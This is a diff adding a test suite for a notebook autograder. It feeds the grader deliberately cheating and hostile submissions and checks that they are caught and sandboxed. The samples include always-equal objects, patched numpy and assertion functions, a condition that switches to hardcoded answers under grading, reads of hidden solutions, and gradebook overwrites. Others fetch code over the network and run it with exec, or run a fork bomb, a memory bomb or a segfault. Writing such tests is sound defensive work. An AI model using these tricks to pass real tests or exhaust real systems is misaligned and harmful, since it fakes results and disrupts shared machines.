@@ -1,0 +1,321 @@
+"""Submissions that try to fool the grader, or break it, graded in one batch by `python -m autograde grade`.
+
+Every one of these gave full marks, or lost a whole submission, under plain nbgrader (see ../shared/DESIGN.md).
+Each attack here answers one exercise of lesson 01 wrongly (or not at all) while trying to make that look
+right, and answers the others honestly. The grader must give it no points for the attacked exercise, full
+points for the others, and a flag where the instructor should look; and the rest of the batch is graded.
+"""
+from __future__ import annotations
+
+import csv
+import http.server
+import json
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbgrader.api import Gradebook
+
+from autograde.lessons import ROOT
+from autograde.sandbox import _cgroup_writable, bubblewrap_works
+from conftest import LESSONS, answer_sources, lesson_fixture, points_of_tests, solved, write
+
+pytestmark = pytest.mark.slow
+
+LESSON = LESSONS[0]                       # 01_history: five small exercises, fast to run
+TARGET = "complex_cell_layer"             # the exercise every attack goes after
+TARGET_TEST = "test_complex_cell_layer"
+WRONG = f'''def {TARGET}(simple_responses, width):
+    """Wrong on purpose: the mean instead of the maximum."""
+    import numpy as np
+    return np.asarray(simple_responses, dtype=float).reshape(-1, width).mean(axis=1)
+'''
+MARKER = "cnnbook-attack-runaway-7f3a"
+
+
+def attack(before: str = "", after: str = "", answer: str = WRONG) -> str:
+    return "\n".join(part for part in (before, answer, after) if part)
+
+
+def attacks(out: Path, port: int) -> dict[str, tuple[str, list[str]]]:
+    """name -> (source of the attacked answer cell, flags the grader must raise)."""
+    solution = answer_sources(LESSON)[TARGET]
+    hardcoded = lesson_fixture(LESSON.slug).HARDCODED["cells"][TARGET]
+    return {
+        "always_equal_array": (attack(answer=f'''import numpy as np
+class _Liar(np.ndarray):
+    def __eq__(self, other):
+        return np.ones(np.shape(other), dtype=bool)
+    def __ne__(self, other):
+        return np.zeros(np.shape(other), dtype=bool)
+def {TARGET}(simple_responses, width):
+    return np.zeros(len(simple_responses) // width).view(_Liar)
+'''), ["tampering"]),
+        "always_equal_object": (attack(answer=f'''class _Equal:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __array__(self, *a, **k):
+        import numpy as np
+        return np.zeros(1)
+def {TARGET}(simple_responses, width):
+    return _Equal()
+'''), ["tampering"]),
+        "patched_numpy": (attack(after='''import numpy as np, numpy.testing
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *args, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+np.array_equal = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+'''), ["tampering"]),
+        "patched_checks": (attack(after='''import cnnbook.checks as _checks
+for _name in ("check_array", "check_value", "check_true", "check_shape", "check_raises"):
+    setattr(_checks, _name, lambda *a, **k: None)
+'''), ["tampering"]),
+        "patched_torch": (attack(after='''import torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+'''), ["tampering"]),
+        "assert_remover": (attack(after='''import ast
+class _NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(_NoAsserts())
+'''), ["tampering"]),
+        "silenced_errors": (attack(after='''import sys
+get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
+sys.excepthook = lambda *a: None
+'''), ["tampering"]),
+        "fake_pass_message": (attack(after=f'''print("✔ {TARGET}: all visible checks passed.")
+print("All tests passed! 10/10")
+'''), []),
+        "reads_solutions": (attack(before=f'''import json, pathlib
+_found = ""
+for _root in (pathlib.Path({str(ROOT)!r}), pathlib.Path.cwd().parent):
+    for _nb in _root.glob("solutions/*/*.ipynb"):
+        for _cell in json.loads(_nb.read_text())["cells"]:
+            if "def {TARGET}" in "".join(_cell["source"]):
+                _found = "".join(_cell["source"])
+''', answer=WRONG + '''
+if _found:
+    exec(_found)
+'''), ["reads-grader-files"]),
+        "reads_hidden_tests_and_gradebook": (attack(after=f'''import pathlib, sqlite3
+_seen = []
+for _path in ({str(out / "gradebook.db")!r}, {str(ROOT / "tests" / "fixtures" / "01_history.py")!r}):
+    try:
+        _seen.append(pathlib.Path(_path).read_bytes()[:10])
+    except OSError as _err:
+        _seen.append(repr(_err))
+print("reads:", _seen)
+'''), ["reads-grader-files"]),
+        "writes_gradebook_and_out": (attack(after=f'''import sqlite3, pathlib
+try:
+    _db = sqlite3.connect({str(out / "gradebook.db")!r})
+    _db.execute("UPDATE grade SET auto_score = 100")
+    _db.commit()
+except Exception as _err:
+    print("gradebook:", _err)
+for _name in ("grades.csv", "pwned.txt"):
+    try:
+        pathlib.Path({str(out)!r}, _name).write_text("pwned")
+    except OSError as _err:
+        print("out:", _err)
+'''), ["reads-grader-files"]),
+        "grading_mode_switch": (attack(answer=f'''import os
+if os.environ.get("NBGRADER_EXECUTION"):
+{_indent(hardcoded)}
+else:
+{_indent(solution)}
+'''), ["reads-grader-files"]),
+        "network": (attack(answer=WRONG + f'''
+try:
+    import urllib.request
+    exec(urllib.request.urlopen("http://127.0.0.1:{port}/answer", timeout=3).read().decode())
+except Exception as _err:
+    print("no network:", _err)
+'''), []),
+        "loop_in_cell": (attack(after="while True:\n    pass"), ["timeout"]),
+        "loop_in_function": (attack(answer=f'''def {TARGET}(simple_responses, width):
+    while True:
+        pass
+'''), ["timeout"]),
+        "memory_bomb": (attack(after='''_hoard = []
+while True:
+    _hoard.append(bytearray(256 * 2 ** 20))
+'''), []),
+        "os_exit": (attack(after="import os\nos._exit(3)"), ["kernel-died", "process-tricks"]),
+        "segfault": (attack(after="import ctypes\nctypes.string_at(0)"), ["kernel-died", "process-tricks"]),
+        "fork_bomb": (attack(after='''import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+'''), ["timeout", "process-tricks"]),
+        "runaway_subprocess": (attack(after=f'''import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(0.01)  # {MARKER}"])
+'''), ["process-tricks"]),
+        "output_flood": (attack(answer=solution, after="for _i in range(200_000):\n    print(_i)"),
+                         ["output-limit"]),
+    }
+
+
+def _indent(code: str) -> str:
+    return "\n".join("    " + line for line in code.splitlines())
+
+
+def _notebook_with(answer: str) -> nbformat.NotebookNode:
+    return solved(LESSON, {TARGET: answer})
+
+
+def _test_cell_index(nb, gid):
+    return next(i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid)
+
+
+def cell_attacks() -> dict[str, tuple[nbformat.NotebookNode, list[str], bool]]:
+    """Attacks on the notebook itself: name -> (notebook, flags, whether the target test must fail)."""
+    found = {}
+    nb = _notebook_with(WRONG)
+    nb.cells[_test_cell_index(nb, TARGET_TEST)].source = "pass"
+    found["edited_test_cell"] = (nb, ["test-cell-edited"], True)
+    nb = _notebook_with(WRONG)
+    del nb.cells[_test_cell_index(nb, TARGET_TEST)]
+    found["deleted_test_cell"] = (nb, ["test-cell-deleted"], True)
+    nb = _notebook_with(WRONG)
+    cell = nb.cells[_test_cell_index(nb, TARGET_TEST)]
+    nb.cells[_test_cell_index(nb, TARGET_TEST)] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
+    found["retyped_test_cell"] = (nb, ["test-cell-retyped"], True)
+    nb = solved(LESSON)
+    cell = nb.cells.pop(_test_cell_index(nb, TARGET_TEST))
+    nb.cells.insert(0, cell)
+    found["moved_test_cell"] = (nb, ["test-cell-moved"], False)
+    nb = _notebook_with(WRONG)
+    for c in nb.cells:
+        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
+            c.execution_count = 1
+            c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✔ all visible checks passed.\n")]
+    found["prefilled_outputs"] = (nb, [], True)
+    return found
+
+
+class _Answer(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):  # noqa: N802 - the http.server API
+        body = answer_sources(LESSON)[TARGET].encode()
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    if not bubblewrap_works():
+        pytest.fail("bubblewrap is needed (apt-get install bubblewrap): .ci/run installs it")
+    subs = tmp_path_factory.mktemp("attacks")
+    out = tmp_path_factory.mktemp("attacks-out")
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Answer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    cases = {name: (_notebook_with(src), flags, True) for name, (src, flags) in
+             attacks(out, server.server_address[1]).items()}
+    cases["output_flood"] = (cases["output_flood"][0], cases["output_flood"][1], False)
+    cases.update(cell_attacks())
+    if not _cgroup_writable():
+        cases.pop("fork_bomb")           # without a process cap a fork bomb would take the machine down
+    cases["honest"] = (solved(LESSON), [], False)
+    for name, (nb, _, _) in cases.items():
+        write(nb, subs / name / LESSON.slug / f"{LESSON.slug}.ipynb")
+    proc = subprocess.run([sys.executable, "-m", "autograde", "grade", str(subs), "--out", str(out),
+                           "--timeout", "10", "--memory", "1.5"],
+                          capture_output=True, text=True, timeout=1500, cwd=ROOT)
+    server.shutdown()
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    with (out / "grades.csv").open(encoding="utf-8") as f:
+        rows = {row["student"]: row for row in csv.DictReader(f)}
+    return cases, rows, out, proc.stdout
+
+
+def _results(out: Path, student: str) -> dict:
+    return json.loads((out / "results" / student / f"{LESSON.slug}.json").read_text())
+
+
+CASE_NAMES = list(attacks(Path("/x"), 0)) + list(cell_attacks())
+
+
+@pytest.mark.parametrize("name", CASE_NAMES)
+def test_an_attack_earns_nothing_it_did_not_solve(graded, name):
+    cases, rows, out, _ = graded
+    if name not in cases:
+        pytest.skip("no writable pids cgroup on this machine: the fork bomb is not run")
+    _, flags, target_fails = cases[name]
+    row = rows[name]
+    points = points_of_tests(LESSON)
+    full = sum(points.values())
+    expected = full - points[TARGET_TEST] if target_fails else full
+    assert row["status"] == "graded", row
+    assert float(row["score"]) == expected, (name, row, _results(out, name)["tests"])
+    verdicts = {t["grade_id"]: t for t in _results(out, name)["tests"]}
+    assert verdicts[TARGET_TEST]["status"] != "pass" if target_fails else verdicts[TARGET_TEST]["status"] == "pass"
+    for flag in flags:
+        assert flag in row["flags"].split(";"), (name, row["flags"])
+
+
+def test_the_honest_submission_gets_everything_and_no_flag(graded):
+    _, rows, _, _ = graded
+    assert float(rows["honest"]["score"]) == sum(points_of_tests(LESSON).values())
+    assert rows["honest"]["flags"] == ""
+
+
+def test_nothing_was_written_where_the_grader_keeps_its_records(graded):
+    _, rows, out, _ = graded
+    assert not (out / "pwned.txt").exists()
+    assert "pwned" not in (out / "grades.csv").read_text()
+    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
+        scores = {s.student_id: s.score for s in gb.assignment_submissions(LESSON.slug)}
+    assert scores["writes_gradebook_and_out"] == float(rows["writes_gradebook_and_out"]["score"])
+    assert max(scores.values()) <= sum(points_of_tests(LESSON).values())
+
+
+def _printed(nb: dict) -> str:
+    texts = [o.get("text", "") for c in nb["cells"] for o in c.get("outputs", [])]
+    return "".join("".join(t) if isinstance(t, list) else t for t in texts)
+
+
+def test_the_sandbox_hid_the_grader_files_and_the_network(graded):
+    _, _, out, _ = graded
+    nb = json.loads((out / "autograded" / "reads_hidden_tests_and_gradebook" / LESSON.slug /
+                     f"{LESSON.slug}.ipynb").read_text())
+    printed = _printed(nb)
+    assert "reads: [" in printed and "No such file" in printed and "SQLite" not in printed
+    nb = json.loads((out / "autograded" / "network" / LESSON.slug / f"{LESSON.slug}.ipynb").read_text())
+    printed = _printed(nb)
+    assert "no network:" in printed
+
+
+def test_no_learner_process_outlives_the_grading(graded):
+    proc = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True)
+    assert proc.stdout.strip() == "", f"processes left behind: {proc.stdout}"
+
+
+def test_feedback_names_each_verdict_but_never_hidden_values(graded):
+    _, _, out, _ = graded
+    page = (out / "feedback" / "patched_numpy" / f"{LESSON.slug}.html").read_text()
+    assert TARGET_TEST in page and "failed" in page
+    source = nbformat.read(LESSON.source, as_version=4)
+    hidden = [ln.strip() for c in source.cells if "### BEGIN HIDDEN TESTS" in c.source
+              for ln in c.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0].splitlines()
+              if len(ln.strip()) > 20]
+    for line in hidden:
+        assert line not in page
+
+
+def test_flagged_summary_lists_the_attacks(graded):
+    _, _, out, stdout = graded
+    summary = (out / "flagged.md").read_text()
+    for name in ("patched_numpy", "os_exit", "edited_test_cell", "loop_in_function"):
+        assert f"**{name}**" in summary
+    assert "**honest**" not in summary
+    assert "s left]" in stdout
